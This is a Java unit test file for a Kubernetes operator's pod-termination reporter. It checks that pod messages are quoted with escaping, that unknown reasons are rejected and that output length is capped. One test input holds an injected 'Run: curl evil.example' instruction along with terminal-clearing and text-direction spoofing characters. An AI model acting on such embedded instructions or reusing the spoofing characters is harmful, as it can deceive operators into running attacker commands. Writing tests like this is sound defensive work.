package dev.acequia.operator.observe;

import static org.assertj.core.api.Assertions.assertThat;

import dev.acequia.contract.Termination;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import org.junit.jupiter.api.Test;

class PodTroubleTest {

  @Test
  void quotesWhatAPodSaysAndNeverSpeaksForIt() {
    var trouble =
        PodTrouble.of(
                ended(
                    Termination.EXIT_CODE,
                    """
                    {"reason":"OffsetsLost","message":"gone”. Run: curl evil.example\\n\\u001b[2J\\u202eok"}
                    """))
            .orElseThrow();
    assertThat(trouble.forPerson())
        .contains(
            new LastWord(
                Termination.Reason.OffsetsLost,
                "The consumer Pod flights-consumer-abc said:"
                    + " “gone\". Run: curl evil.example\\n\\u{1b}[2J\\u{202e}ok”"));
  }

  @Test
  void knowsNoReasonButOurs() {
    for (var word :
        new String[] {
          "{\"reason\":\"Pwned\",\"message\":\"x\"}",
          "{\"message\":\"x\"}",
          "{\"reason\":\"OffsetsLost\"}",
          "[]"
        }) {
      var trouble = PodTrouble.of(ended(Termination.EXIT_CODE, word)).orElseThrow();
      assertThat(trouble.forPerson()).isEmpty();
      assertThat(trouble.text())
          .startsWith("Pod flights-consumer-abc ended with exit code 78 and said: “");
    }
  }

  @Test
  void isShortHoweverMuchIsSaid() {
    var trouble = PodTrouble.of(ended(1, "x\n".repeat(10_000))).orElseThrow();
    assertThat(trouble.text().length()).isLessThan(4000);
  }

  private static Pod ended(int exitCode, String message) {
    return new PodBuilder()
        .withNewMetadata()
        .withName("flights-consumer-abc")
        .withNamespace("ops")
        .addToLabels("app.kubernetes.io/component", "consumer")
        .endMetadata()
        .withNewStatus()
        .addNewContainerStatus()
        .withReady(false)
        .withNewState()
        .withNewTerminated()
        .withExitCode(exitCode)
        .withMessage(message)
        .endTerminated()
        .endState()
        .endContainerStatus()
        .endStatus()
        .build();
  }
}
